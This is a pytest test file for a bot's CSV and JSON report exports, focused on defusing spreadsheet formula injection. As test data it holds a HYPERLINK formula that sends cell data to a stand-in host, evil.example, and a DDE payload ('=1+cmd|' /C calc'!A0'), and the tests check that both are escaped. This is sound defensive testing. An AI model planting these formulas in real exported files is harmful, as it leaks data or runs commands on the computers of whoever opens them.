"""Tables of the record as files that a spreadsheet shows and never runs."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.model.change import Change, ChangeKind
from bot.model.request import Kind, Request
from bot.model.team import Team, TeamMember
from bot.model.user import Status, User, UserRecord
from bot.services.reports import exports
from bot.services.reports.exports import COLUMNS, WHAT, UnknownExport, export, safe_cell
from bot.store.record import open_record

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from bot.store.record import Record

AT = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
JANE = User(
    id=7,
    first_name="Jané",
    last_name=EVIL,
    email="jane@acme.example",
    role="admin",
    phone="+49 30 1234",
    alternate_emails=("j@acme.example", "jd@acme.example"),
    raw={"id": 7},
)


@pytest.fixture
def record(tmp_path: Path) -> Iterator[Record]:
    opened = open_record(str(tmp_path / "record.db"))
    yield opened
    opened.close()


@pytest.fixture
def filled(record: Record) -> Record:
    row = UserRecord(user=JANE, first_seen=AT, last_seen=AT, scim_id="scim-7")
    gone = UserRecord(user=User(id=8, email="gone@acme.example"), first_seen=AT, last_seen=AT)
    record.users.put([row, replace(gone, status=Status.REMOVED, removed_at=AT)])
    record.teams.replace([Team(id=1, name="Tier 1"), Team(id=2, name="@Tier")], {TeamMember(1, 7), TeamMember(2, 7)})
    record.changes.add([Change(user_id=7, kind=ChangeKind.CHANGED, field="role", before="user", after="-admin")])
    record.audit.append("request.opened", actor="U1", details={"why": "a, b"})
    record.requests.insert(
        Request(
            id="r1",
            kind=Kind.OFFBOARD,
            opened_at=AT,
            requester="U1",
            target_id=7,
            reason="\tleft",
            plan={"role": "admin"},
            expires_at=AT + timedelta(days=1),
        )
    )
    return record


def as_csv(record: Record, what: str) -> list[dict[str, str]]:
    out = io.StringIO(newline="")
    count = export(record, what, "csv", out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert len(rows) == count
    return rows


def as_json(record: Record, what: str) -> list[dict[str, Any]]:
    out = io.StringIO()
    count = export(record, what, "json", out)
    rows: list[dict[str, Any]] = json.loads(out.getvalue())
    assert len(rows) == count
    return rows


def test_users_come_with_status_and_teams_and_gone_people_too(filled: Record) -> None:
    jane, gone = as_csv(filled, "users")
    assert (jane["id"], jane["first_name"], jane["role"]) == ("7", "Jané", "admin")
    assert (jane["status"], jane["scim_id"], jane["first_seen"]) == ("active", "scim-7", "2026-03-02T09:00:00+00:00")
    assert jane["teams"] == "Tier 1, @Tier"
    assert jane["alternate_emails"] == "j@acme.example, jd@acme.example"
    assert (gone["status"], gone["removed_at"]) == ("removed", "2026-03-02T09:00:00+00:00")


def test_what_looks_like_a_formula_is_text_in_a_spreadsheet(filled: Record) -> None:
    (jane, _), (change,), (request,) = (as_csv(filled, what) for what in ("users", "changes", "requests"))
    assert jane["last_name"] == "'" + EVIL
    assert jane["phone"] == "'+49 30 1234"
    assert change["after"] == "'-admin"
    assert request["reason"] == "'\tleft"


def test_json_says_what_is_and_quotes_nothing(filled: Record) -> None:
    jane, gone = as_json(filled, "users")
    assert (jane["last_name"], jane["teams"]) == (EVIL, ["Tier 1", "@Tier"])
    assert jane["alternate_emails"] == ["j@acme.example", "jd@acme.example"]
    assert (jane["removed_at"], gone["removed_at"]) == (None, "2026-03-02T09:00:00+00:00")
    (request,) = as_json(filled, "requests")
    assert (request["kind"], request["plan"]) == ("offboard", {"role": "admin"})
    (entry,) = as_json(filled, "audit")
    assert entry["details"] == {"why": "a, b"}
    assert len(entry["hash"]) == 64


@pytest.mark.parametrize("what", WHAT)
def test_both_styles_have_the_same_columns_in_the_same_order(filled: Record, what: str) -> None:
    assert list(as_csv(filled, what)[0]) == list(as_json(filled, what)[0]) == list(COLUMNS[what])


@pytest.mark.parametrize("what", WHAT)
def test_an_empty_record_is_an_empty_table_and_not_an_empty_file(record: Record, what: str) -> None:
    out = io.StringIO(newline="")
    assert export(record, what, "csv", out) == 0
    assert out.getvalue() == ",".join(COLUMNS[what]) + "\r\n"
    assert as_json(record, what) == []


def test_no_lease_and_no_address_of_a_message_leaves_the_house() -> None:
    assert not {"lease_owner", "message_ts", "channel"} & set(COLUMNS["requests"])
    assert "raw" not in COLUMNS["users"]


def test_every_request_is_there_once_over_many_pages(record: Record) -> None:
    for number in range(1_100):
        request = Request(
            id=f"r{number}",
            kind=Kind.PROVISION,
            opened_at=AT,
            requester="U1",
            expires_at=AT,
            target_email=f"{number}@x.y",
        )
        record.requests.insert(request)
    assert len({row["id"] for row in as_json(record, "requests")}) == 1_100


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
@pytest.mark.parametrize("before", ["", " ", "\u00a0", "\u200b", "\ufeff "])
def test_every_start_of_a_formula_is_made_text(start: str, before: str) -> None:
    assert safe_cell(before + start + "1+1") == "'" + before + start + "1+1"


@pytest.mark.parametrize("text", ["", "Jane", "a=b", "1+1", "jane@acme.example", "D'Arcy", "—", "ok -1"])
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize(("what", "style"), [("people", "csv"), ("users", "xlsx")])
def test_a_table_or_format_that_there_is_not_is_named(record: Record, what: str, style: str) -> None:
    with pytest.raises(UnknownExport, match=what if what == "people" else style):
        export(record, what, style, io.StringIO())


@pytest.mark.parametrize(
    "text",
    [
        "Smith;=1+cmd|' /C calc'!A0",
        "Smith\t=1+1",
        "Smith|@SUM(1)",
        "ok; +1+1",
        'quoted;"=1+1"',
        'Smith;" =1"',
        "two\n=1+1",
        "two\r\n\t-1",
        "Smith；＝1",
        "Smith;;;\u00a0＠SUM(1)",
        "=1;=2",
    ],
)
def test_no_separator_makes_a_cell_that_is_a_formula(text: str) -> None:
    assert live_cells(text) == []


@settings(deadline=None)
@given(st.text(st.sampled_from("=+-@;|\t\r\n, \"'a1＝\u2028\u00a0\u200b")))
def test_no_text_at_all_makes_a_cell_that_is_a_formula(text: str) -> None:
    assert live_cells(text) == []


def live_cells(text: str) -> list[str]:
    """The cells that a program would run, of a line with `text` in it, for each character that may split it."""
    out = io.StringIO()
    exports._csv(("id", "name", "role"), [{"id": 1, "name": text, "role": "user"}], out)
    lines = re.split("[\r\n\v\f\x1c-\x1e\x85\u2028\u2029]", out.getvalue())
    found = [cell for separator in ",;\t|；" for row in csv.reader(lines, delimiter=separator) for cell in row]
    found += [cell for row in csv.reader(io.StringIO(out.getvalue(), newline="")) for cell in row]
    return [cell for cell in found if cell.strip(' "\u00a0\u200b\t\r\n\u2028')[:1] in set("=+-@＝＋－＠") - {""}]
